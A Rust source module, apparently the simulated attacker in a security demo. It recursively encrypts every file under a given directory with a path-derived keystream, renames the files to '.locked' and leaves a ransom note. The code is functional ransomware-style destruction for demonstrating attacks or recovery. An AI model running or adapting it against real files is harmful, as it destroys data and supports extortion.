//! The demo's attacker: encrypts every file in place, renames it and leaves a note. It knows one directory, which
//! the demo made, and nothing else.

use std::fs::{self, OpenOptions};
use std::io::{Read, Seek, SeekFrom, Write};
use std::path::Path;

use anyhow::{Context, Result};

const BLOCK_BYTES: usize = 1 << 20;

/// What the attack did.
#[derive(Clone, Copy, Debug, Default)]
pub struct Destroyed {
    pub files: u64,
    pub bytes: u64,
}

/// Destroys every regular file below `directory`.
pub fn destroy(directory: &Path) -> Result<Destroyed> {
    let mut destroyed = Destroyed::default();
    let entries = fs::read_dir(directory).with_context(|| format!("cannot read {}", directory.display()))?;
    for entry in entries {
        let path = entry?.path();
        let metadata = fs::symlink_metadata(&path)?;
        if metadata.is_dir() {
            let below = destroy(&path)?;
            destroyed.files += below.files;
            destroyed.bytes += below.bytes;
        } else if metadata.is_file() {
            destroyed.bytes +=
                encrypt(&path).with_context(|| format!("cannot encrypt {}", path.display()))?;
            destroyed.files += 1;
            let mut locked = path.clone().into_os_string();
            locked.push(".locked");
            fs::rename(&path, locked)?;
        }
    }
    fs::write(directory.join("YOUR_FILES_ARE_LOCKED.txt"), "Pay, or your data is gone.\n")?;
    Ok(destroyed)
}

/// Adds a key stream that nobody keeps the key of.
fn encrypt(path: &Path) -> Result<u64> {
    let mut file = OpenOptions::new().read(true).write(true).open(path)?;
    let mut stream = blake3::Hasher::new().update(path.as_os_str().as_encoded_bytes()).finalize_xof();
    let mut block = vec![0; BLOCK_BYTES];
    let mut key = vec![0; BLOCK_BYTES];
    let mut offset_bytes = 0;
    loop {
        file.seek(SeekFrom::Start(offset_bytes))?;
        let count = file.read(&mut block)?;
        if count == 0 {
            file.sync_all()?;
            return Ok(offset_bytes);
        }
        stream.fill(&mut key[..count]);
        for (byte, key) in block[..count].iter_mut().zip(&key) {
            *byte ^= key;
        }
        file.seek(SeekFrom::Start(offset_bytes))?;
        file.write_all(&block[..count])?;
        offset_bytes += count as u64;
    }
}
